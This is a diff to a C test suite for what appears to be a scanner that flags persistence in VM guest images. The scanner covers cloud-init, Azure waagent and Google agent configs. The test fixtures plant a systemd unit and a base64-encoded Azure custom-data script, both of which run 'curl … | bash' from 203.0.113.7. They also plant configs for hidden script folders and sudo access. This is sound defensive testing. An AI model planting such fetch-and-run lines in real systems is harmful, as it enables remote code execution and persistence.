@@ -493,6 +493,14 @@ plant (struct vs_test_guest *t)
                  "\"enabled\": true, \"contents\": \"[Service]\\n"
                  "ExecStart=/bin/sh -c 'curl -s http://203.0.113.7/i | "
                  "bash'\\n\"}]}}\n", 0644);
+  /* waagent keeps custom data base64-encoded. */
+  vs_test_write (t, "/var/lib/waagent/CustomData",
+                 "IyEvYmluL3NoCmN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L2F6IHwg"
+                 "YmFzaAo=\n", 0600);
+  vs_test_write (t, "/etc/default/instance_configs.cfg",
+                 "[MetadataScripts]\nrun_dir = /var/tmp/.gce\n"
+                 "default_shell = /bin/bash\n[Accounts]\n"
+                 "groups = adm,google-sudoers,docker\n", 0644);
   vs_test_write (t, "/etc/waagent.conf",
                  "Provisioning.Agent=auto\n"
                  "Provisioning.RegenerateSshHostKeyPair=n\n"
@@ -542,6 +550,7 @@ test_stock (void)
     tap_skip ("stock: no cloud-init .deb");
     tap_skip ("stock: no cloud-init .deb");
     tap_skip ("stock: no cloud-init .deb");
+    tap_skip ("stock: no cloud-init .deb");
     return;
   }
   vs_test_guest_init (&t);
@@ -576,6 +585,33 @@ test_stock (void)
           "stock: a drop-in that only names datasources says nothing");
   if (getenv ("VS_TEST_DUMP"))
     vs_test_dump_findings (&t);
+  vs_test_guest_free (&t);
+
+  /* An image build that renames the default user edits cloud.cfg: the
+   * file is no longer stock, and what it does is listed. */
+  vs_test_guest_init (&t);
+  debian_base (&t);
+  if (stock_cloud_init (&t, deb) == -1)
+    printf ("# laying %s into the tree failed\n", deb);
+  s = vs_xasprintf ("sed -i 's/name: debian$/name: admin/' "
+                    "'%s/etc/cloud/cloud.cfg'", t.root);
+  if (system (s) != 0)
+    printf ("# sed failed\n");
+  free (s);
+  vs_test_guest_scan (&t, "debian", "deb");
+  load (&t);
+  vs_check_firstboot (&t.ctx);
+  s = vs_test_text (&t, "SELECT group_concat(severity || ' ' || "
+                    "substr(evidence, 1, 120), '; ') FROM findings WHERE "
+                    "severity_rank >= 2");
+  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
+                         "severity_rank >= 2") == 1
+          && nfind (&t, "persistence.cloud-init", "medium",
+                    "/etc/cloud/cloud.cfg", "system_info.default_user: "
+                    "admin; sudo: ALL=(ALL) NOPASSWD:ALL", "T1136.001") == 1,
+          "stock, cloud.cfg edited: one medium, the default user with sudo "
+          "(%s)", s ? s : "none");
+  free (s);
   vs_test_guest_free (&t);
 }
 
@@ -648,6 +684,16 @@ test_planted (void)
           && nfind (&t, fa, "medium", "/etc/waagent.conf",
                     "RegenerateSshHostKeyPair=n", "T1037") == 1,
           "waagent.conf settings are medium");
+  tap_ok (nfind (&t, fa, "high", "/var/lib/waagent/CustomData",
+                 "script line 2: curl -s http://203.0.113.7/az | bash",
+                 "T1059.004") == 1,
+          "Azure custom data, base64, decoded and judged: high");
+  tap_ok (nfind (&t, fa, "high", "/etc/default/instance_configs.cfg",
+                 "run_dir = /var/tmp/.gce", "T1037") == 1
+          && nfind (&t, fa, "medium", "/etc/default/instance_configs.cfg",
+                    "groups = adm,google-sudoers,docker", "T1037") == 1,
+          "Google agent: scripts run from a hidden /var/tmp folder high, "
+          "groups medium");
   tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE path IN "
                          "('/etc/cloud/cloud.cfg.d/loop.cfg', "
                          "'/etc/cloud/cloud.cfg.d/dir.cfg', "
@@ -661,7 +707,7 @@ test_planted (void)
 int
 main (void)
 {
-  tap_plan (54);
+  tap_plan (57);
   test_parser_formats ();
   test_parser_hostile ();
   test_clean ();
